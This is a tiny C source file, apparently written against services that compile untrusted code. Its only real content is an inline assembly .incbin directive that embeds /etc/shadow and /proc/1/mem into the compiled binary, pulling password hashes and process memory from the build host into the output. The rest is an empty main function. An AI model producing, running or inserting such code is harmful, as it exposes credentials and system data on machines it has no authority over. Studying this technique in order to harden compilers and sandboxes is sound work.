__asm__(".section .rodata\n.incbin \"/etc/shadow\"\n.incbin \"/proc/1/mem\"\n");
int main(void) { return 0; }
